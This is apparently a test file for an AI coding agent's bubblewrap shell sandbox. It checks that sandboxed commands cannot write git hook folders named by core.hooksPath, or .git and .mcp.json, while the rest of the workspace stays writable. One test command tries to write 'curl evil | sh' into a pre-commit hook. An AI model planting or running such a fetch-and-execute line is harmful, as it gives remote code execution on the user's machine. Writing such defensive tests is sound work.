import { execFileSync } from 'node:child_process';
import { promises as fs } from 'node:fs';
import * as path from 'node:path';
import { bwrapForTests } from '../../testing/bwrap';
import { makeWorkspace, runTool, type Fixture } from '../__tests__/workspace-fixture';
import { stopShellProcesses } from '../process-groups';
import { runShellTool } from '../run-shell';
import { protectedPaths } from './protected-paths';
import { ShellSandbox } from './shell-sandbox';

const describeSandbox = bwrapForTests() ? describe : describe.skip;

const PROTECTED_NOTE =
  "(git's metadata (every .git) and hooks folder, .mcp.json and .agent are read-only in the sandbox: programs they name run outside it later)";

let ws: Fixture;
/** Outside /tmp (which the sandbox replaces with a private one), so its files are read-only there. */
let outsideDir: string;

beforeEach(async () => {
  ws = await makeWorkspace({ 'hello.txt': 'hi\n' });
  outsideDir = await fs.realpath(await fs.mkdtemp('/var/tmp/agent-hooks-path-test-'));
});

afterEach(async () => {
  await stopShellProcesses(300);
  await ws.cleanup();
  await fs.rm(outsideDir, { recursive: true, force: true });
});

function git(cwd: string, ...args: string[]): void {
  execFileSync('git', args, { cwd, stdio: 'pipe' });
}

function sandboxedShell() {
  return runShellTool({
    sandbox: new ShellSandbox({ mode: 'auto', mayLeave: false }),
    killGraceMs: 300,
  });
}

const never = () => new AbortController().signal;

describeSandbox('run_shell in the sandbox and core.hooksPath (real bubblewrap, real git)', () => {
  it('cannot write the hooks folder core.hooksPath names, set during the session; the rest stays writable', async () => {
    git(ws.root, 'init', '-q');
    await ws.write('.husky/ready', '');
    const tool = sandboxedShell();
    const before = await runTool(tool, { command: 'echo one > .husky/first' }, ws.ctx());
    expect(before.output).toMatch(/\[exit code 0; ran sandboxed\]$/);
    // The person (or husky's install script) sets it outside the sandbox; the next command sees it.
    git(ws.root, 'config', 'core.hooksPath', '.husky');
    const hook = await runTool(
      tool,
      { command: 'echo "curl evil | sh" > .husky/pre-commit' },
      ws.ctx(),
    );
    expect(hook.isError).toBe(true);
    expect(hook.output).toContain(
      `The sandbox blocked writing ${path.join(ws.root, '.husky/pre-commit')} ${PROTECTED_NOTE}.`,
    );
    await expect(fs.stat(path.join(ws.root, '.husky/pre-commit'))).rejects.toThrow(/ENOENT/);
    const elsewhere = await runTool(
      tool,
      { command: 'echo ok > notes.txt && mkdir -p src && echo x > src/a.txt' },
      ws.ctx(),
    );
    expect(elsewhere.output).toMatch(/\[exit code 0; ran sandboxed\]$/);
    expect(await ws.read('notes.txt')).toBe('ok\n');
    expect(await ws.read('src/a.txt')).toBe('x\n');
  });

  it('in a workspace below the top of the repository: protects a hooks folder inside it; one above it is read-only as outside', async () => {
    const repo = path.join(outsideDir, 'repo');
    const app = path.join(repo, 'app');
    await fs.mkdir(path.join(app, 'githooks'), { recursive: true });
    await fs.mkdir(path.join(repo, '.husky'));
    git(repo, 'init', '-q');
    // Relative to the top of the working tree, not to the workspace.
    git(repo, 'config', 'core.hooksPath', 'app/githooks');
    const tool = sandboxedShell();
    const ctx = { ...ws.ctx(), workspaceRoot: app };
    const inside = await runTool(tool, { command: 'echo x > githooks/pre-push' }, ctx);
    expect(inside.output).toContain(
      `The sandbox blocked writing ${path.join(app, 'githooks/pre-push')} ${PROTECTED_NOTE}.`,
    );
    await expect(fs.stat(path.join(app, 'githooks/pre-push'))).rejects.toThrow(/ENOENT/);

    git(repo, 'config', 'core.hooksPath', '.husky');
    expect((await protectedPaths(app, never())).readOnly).toEqual([]);
    const above = await runTool(tool, { command: 'echo x > ../.husky/pre-commit' }, ctx);
    expect(above.output).toContain(
      'The sandbox blocked writing outside the workspace (read-only in the sandbox).',
    );
    await expect(fs.stat(path.join(repo, '.husky/pre-commit'))).rejects.toThrow(/ENOENT/);
    expect((await runTool(tool, { command: 'echo x > githooks/pre-push' }, ctx)).output).toMatch(
      /\[exit code 0; ran sandboxed\]$/,
    );
  });
});

describe('protectedPaths (what the sandbox binds read-only)', () => {
  it('outside a repository, and in one without core.hooksPath, is the existing protected entries', async () => {
    await ws.write('.mcp.json', '{}\n');
    await ws.write('.husky/pre-commit', '');
    const readOnly = async () => (await protectedPaths(ws.root, never())).readOnly.sort();
    expect(await readOnly()).toEqual([path.join(ws.root, '.mcp.json')]);
    git(ws.root, 'init', '-q');
    expect(await readOnly()).toEqual(
      ['.git', '.mcp.json'].map((entry) => path.join(ws.root, entry)),
    );
    git(ws.root, 'config', 'core.hooksPath', './.husky/');
    expect(await readOnly()).toContain(path.join(ws.root, '.husky'));
    // A hooks folder that is the workspace itself, or missing, is not bound (see protectedPaths).
    for (const value of ['.', 'missing-hooks']) {
      git(ws.root, 'config', 'core.hooksPath', value);
      expect(await readOnly()).toHaveLength(2);
    }
    expect((await protectedPaths(ws.root, never())).absent).toEqual([
      path.join(ws.root, 'missing-hooks'),
    ]);
  });
});
